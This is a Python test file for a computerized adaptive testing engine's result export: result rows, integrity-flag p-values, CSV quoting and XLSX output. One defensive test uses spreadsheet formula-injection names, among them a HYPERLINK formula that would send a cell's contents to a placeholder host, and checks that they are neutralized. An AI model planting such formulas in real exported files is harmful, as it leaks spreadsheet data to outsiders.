"""cat_engine.server.results: the result rows of finished and terminated sittings (with the integrity flags raised
and the final screening's p-values), and their CSV and XLSX."""

from __future__ import annotations

import csv
import io
import random
import re
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import orjson
import pytest
from server_world import Process, cmd, process
from server_world import demo_battery as demo
from server_world import run_coroutine as run
from test_session_integrity import Examinee, timed_battery
from test_session_integrity import sit as sit_core

from cat_engine import codec
from cat_engine import session as core
from cat_engine.aberrance import KINDS
from cat_engine.server.memory_store import MemoryStore
from cat_engine.server.results import (
    INTEGRITY_COLUMNS,
    RESULT_COLUMNS,
    result_record,
    result_rows,
    rows_to_csv,
    rows_to_xlsx,
)
from cat_engine.server.rooms import create_room, register
from cat_engine.server.spreadsheet import defuse
from cat_engine.server.store import CandidateRecord
from cat_engine.session_integrity import screen_session


def roster(n: int) -> list[dict[str, str]]:
    return [{"employee_id": f"19900101202012{i:04d}", "name": f"Peserta {i}"} for i in range(1, n + 1)]


async def sit(p: Process, token: str, seed: int) -> list[dict[str, Any]]:
    """Answer a whole sitting through the candidate's use cases, starting the battery at the welcome and each
    subtest at its intro; the frames received."""
    rng = random.Random(seed)
    conn = f"proc1/c{seed}"
    session_id, outcome = await p.candidates.hello(token, conn)
    received = [orjson.loads(f) for f in outcome.frames]
    for _ in range(500):
        frame = received[-1]
        if frame["type"] == "finished":
            return received
        if frame["type"] == "welcome":
            outcome = await p.candidates.start(session_id, conn, None)
        elif frame["type"] == "subtest_intro":
            outcome = await p.candidates.start(session_id, conn, frame["subtest"]["index"])
        else:
            assert frame["type"] == "item", frame
            response = rng.randrange(len(frame["item"]["options"]))
            outcome = await p.candidates.answer(session_id, conn, frame["seq"], response)
        assert len(outcome.frames) == 1
        received.append(orjson.loads(outcome.frames[0]))
    raise AssertionError("the sitting did not finish")


def test_result_rows_of_finished_and_terminated_sessions() -> None:
    async def main() -> None:
        battery = demo()
        p = process(MemoryStore(), battery, "proc1", lambda: 1_800_000_000.0)
        room = await create_room(p.tx, "Ruang 1", battery.id, is_open=True)
        created = await register(p.tx, room["room_id"], roster(4))
        rid = room["room_id"]
        assert await result_rows(p.tx.store, rid) == []
        assert rows_to_csv([]) == ",".join(RESULT_COLUMNS) + "\n"

        received = await sit(p, created[0]["token"], 1)
        assert received[-1]["type"] == "finished"
        assert [f["subtest"]["index"] for f in received if f["type"] == "subtest_intro"] == list(
            range(len(battery.subtests))
        )
        # the second candidate starts its first subtest and is terminated by the proctor; the third never starts;
        # the fourth is terminated at the welcome, before the battery began (it reached no subtest)
        await p.candidates.hello(created[1]["token"], "proc1/x")
        await p.candidates.start(created[1]["session_id"], "proc1/x", None)
        await p.candidates.start(created[1]["session_id"], "proc1/x", 0)
        await p.candidates.hello(created[3]["token"], "proc1/y")
        for n in (1, 3):
            ack = orjson.loads(
                await p.proctors.command(rid, cmd("terminate", created[n]["session_id"], reason="menyontek"))
            )
            assert ack["results"] == [{"session_id": created[n]["session_id"], "ok": True}]

        rows = await result_rows(p.tx.store, rid)
        n_sub = len(battery.subtests)
        finished = [r for r in rows if r["session_id"] == created[0]["session_id"]]
        terminated = [r for r in rows if r["session_id"] == created[1]["session_id"]]
        assert len(finished) == n_sub and len(terminated) == 1
        assert len(rows) == n_sub + 1
        assert not [r for r in rows if r["session_id"] == created[2]["session_id"]]
        assert not [r for r in rows if r["session_id"] == created[3]["session_id"]]

        for row in rows:
            assert tuple(row) == RESULT_COLUMNS
            assert row["room_id"] == rid and row["battery_id"] == battery.id
            assert row["battery_version"] == battery.version
        assert [r["subtest"] for r in finished] == [s.id for s in battery.subtests]
        assert [r["pool_version"] for r in finished] == list(battery.pool_versions)
        for row in finished:
            assert row["employee_id"] == created[0]["employee_id"] and row["name"] == created[0]["name"]
            assert row["status"] == "finished" and row["complete"] is True
            assert isinstance(row["theta"], float) and 0 < row["se"] < 2
            assert row["items"] >= 1 and row["level"] in (1, 2, 3, 4, 5)
            assert isinstance(row["scaled_score"], int)
            assert row["stop_reason"] in ("se_target", "max_items", "classified", "pool_exhausted")
        answered = [f for f in received if f["type"] == "item"]
        assert sum(r["items"] for r in finished) == len(answered)
        assert terminated[0]["status"] == "terminated" and terminated[0]["complete"] is False
        assert terminated[0]["stop_reason"] == "terminated" and terminated[0]["items"] == 0
        # the level's probability: from each subtest's unrounded theta and SE, to 3 decimals; none without a level
        record = await p.tx.store.load(created[0]["session_id"])
        assert record is not None
        exact = core.profile(battery, codec.decode(battery, record.state)).subtests
        for row, sub, result in zip(finished, battery.subtests, exact, strict=True):
            assert 0 < row["level_probability"] <= 1
            assert row["level_probability"] == round(sub.level_probability(result.theta, result.se), 3)
        assert (terminated[0]["level"], terminated[0]["level_probability"]) == (None, None)

        text = rows_to_csv(rows)
        parsed = list(csv.reader(io.StringIO(text)))
        assert tuple(parsed[0]) == RESULT_COLUMNS
        assert len(parsed) == len(rows) + 1
        for line, row in zip(parsed[1:], rows, strict=True):
            assert line == ["" if v is None else str(v) for v in row.values()]
        assert text.endswith("\n") and "\r" not in text

    run(main())


def test_rows_to_csv_quotes_what_needs_quoting() -> None:
    row: dict[str, Any] = dict.fromkeys(RESULT_COLUMNS, "")
    row |= {"name": 'Rahma, Siti "Ani"', "theta": 0.5, "complete": True}
    text = rows_to_csv([row])
    back = list(csv.DictReader(io.StringIO(text)))
    assert back[0]["name"] == 'Rahma, Siti "Ani"'
    assert back[0]["theta"] == "0.5" and back[0]["complete"] == "True"
    assert tuple(back[0]) == RESULT_COLUMNS


def test_result_files_defuse_names_and_keep_numbers() -> None:
    """Names people typed cannot run in a spreadsheet; theta, SE and the counts stay numbers (negative ones too)."""
    names = ['=HYPERLINK("http://x/?"&A1,"click")', "+SUM(1,2)", "@SUM(1,2)", "-2+3", "Sari;=1+2", "Budi"]
    rows: list[dict[str, Any]] = []
    for i, name in enumerate(names):
        row: dict[str, Any] = dict.fromkeys(RESULT_COLUMNS, "x")
        row |= {"employee_id": f"+62{i}", "name": name, "theta": -0.52 - i, "se": 0.3, "level": 1, "items": 7}
        row |= {"level_probability": 0.874, "scaled_score": None, "time_s": 12.5, "complete": False}
        rows.append(row)

    back = list(csv.DictReader(io.StringIO(rows_to_csv(rows))))
    assert [b["name"] for b in back] == [defuse(n) for n in names]
    assert [b["name"][0] for b in back] == ["'", "'", "'", "'", "S", "B"]
    assert back[4]["name"] == "Sari;'=1+2"
    assert [b["employee_id"] for b in back] == [f"'+62{i}" for i in range(len(names))]
    assert [(b["theta"], b["level"], b["level_probability"], b["scaled_score"], b["time_s"]) for b in back][:2] == [
        ("-0.52", "1", "0.874", "", "12.5"),
        ("-1.52", "1", "0.874", "", "12.5"),
    ]

    ws = openpyxl.load_workbook(io.BytesIO(rows_to_xlsx(rows)))["results"]
    table = [[c.value for c in r] for r in ws.iter_rows()]
    assert tuple(table[0]) == RESULT_COLUMNS
    for line, row in zip(table[1:], rows, strict=True):
        assert line == [row[c] for c in RESULT_COLUMNS]  # names verbatim, as text
    assert {ws.cell(i, RESULT_COLUMNS.index("name") + 1).data_type for i in range(2, len(rows) + 2)} == {"s"}


def test_result_columns_are_the_documented_ones() -> None:
    doc = (Path(__file__).resolve().parents[1] / "docs" / "protocol.md").read_text(encoding="utf-8")
    section = doc.split("Result rows (", 1)[1].split("in this order):", 1)[1].split("Only sessions", 1)[0]
    section = re.sub(r"\([^()]*\)", "", section)  # without what the parentheses say of each column
    documented = re.findall(r"`([a-z_]+)`", section)
    assert tuple(documented) == RESULT_COLUMNS


def test_a_result_stored_before_the_level_probability_existed_has_an_empty_one() -> None:
    """Results wait in the store until HR acknowledges them: one written by an older server lacks the field."""
    sub = {
        "subtest_id": "s1",
        "name": "S1",
        "theta": 0.18,
        "se": 0.29,
        "level": 3,
        "scaled_score": 518,
        "items_administered": 14,
        "time_used_s": 402.5,
        "stop_reason": "se_target",
        "pool_id": "p",
        "pool_version": "1",
    }
    profile = {"battery_id": "b", "battery_version": "1", "complete": True, "subtests": [sub]}
    old = {"employee_id": "E1", "name": "Ani", "status": "finished", "profile": profile, "notes": []}

    class Stored:
        async def results(self, room_id: str) -> dict[str, bytes]:
            return {f"{room_id}-0001": orjson.dumps(old)}

    (row,) = run(result_rows(Stored(), "R7K2QX"))  # type: ignore[arg-type]  # only results() is read
    assert (row["level"], row["level_probability"]) == (3, None)
    (line,) = csv.DictReader(io.StringIO(rows_to_csv([row])))
    assert line["level_probability"] == ""  # a null is an empty field


def test_rows_carry_the_flags_raised_and_the_final_screenings_p_values(tmp_path: Path) -> None:
    """A rapid guesser's result: the flags in the order raised, joined with ";", each statistic of the final
    screening's p-value to 4 significant digits under its kind (empty for one not computed), the same in the CSV."""
    battery = timed_battery(tmp_path, ability_correlation=1.0)
    steps = sit_core(battery, 3, Examinee(rapid_from=4, tau_change=1.0), np.random.default_rng(3))
    state = steps[-1].after
    assert len(state.flags) >= 2 and state.flags[0] == "rapid"
    raw = result_record(CandidateRecord("R7K2QX-0001", "E1", "Ani", "x"), battery, state)
    stored = orjson.loads(raw)
    screening = screen_session(battery, state)
    assert stored["flags"] == list(state.flags)
    assert stored["integrity"] == [s.to_dict() for s in screening.statistics]

    class Stored:
        async def results(self, room_id: str) -> dict[str, bytes]:
            return {f"{room_id}-0001": raw}

    rows = run(result_rows(Stored(), "R7K2QX"))  # type: ignore[arg-type]  # only results() is read
    assert len(rows) == len(battery.subtests)
    p_values = {s.kind: s.p_value for s in screening.statistics}
    for row in rows:
        assert tuple(row) == RESULT_COLUMNS
        assert row["flags"] == ";".join(state.flags)
        for column, kind in zip(INTEGRITY_COLUMNS, KINDS, strict=True):
            expected = p_values.get(kind)
            assert row[column] == (None if expected is None else pytest.approx(expected, rel=5e-4))
    assert rows[0]["p_rapid"] < 0.002 and rows[0]["p_ability_change"] is not None
    (line, _) = csv.DictReader(io.StringIO(rows_to_csv(rows)))
    assert line["flags"] == ";".join(state.flags)
    assert float(line["p_rapid"]) == rows[0]["p_rapid"]


def test_a_result_stored_before_the_flags_existed_has_none() -> None:
    sub = {
        "subtest_id": "s1",
        "name": "S1",
        "theta": 0.18,
        "se": 0.29,
        "level": 3,
        "level_probability": 0.7,
        "scaled_score": 518,
        "items_administered": 14,
        "time_used_s": 402.5,
        "stop_reason": "se_target",
        "pool_id": "p",
        "pool_version": "1",
    }
    profile = {"battery_id": "b", "battery_version": "1", "complete": True, "subtests": [sub]}
    old = {"employee_id": "E1", "name": "Ani", "status": "finished", "profile": profile, "notes": []}

    class Stored:
        async def results(self, room_id: str) -> dict[str, bytes]:
            return {f"{room_id}-0001": orjson.dumps(old)}

    (row,) = run(result_rows(Stored(), "R7K2QX"))  # type: ignore[arg-type]  # only results() is read
    assert row["flags"] == "" and all(row[c] is None for c in INTEGRITY_COLUMNS)
    (line,) = csv.DictReader(io.StringIO(rows_to_csv([row])))
    assert line["flags"] == "" and all(line[c] == "" for c in INTEGRITY_COLUMNS)
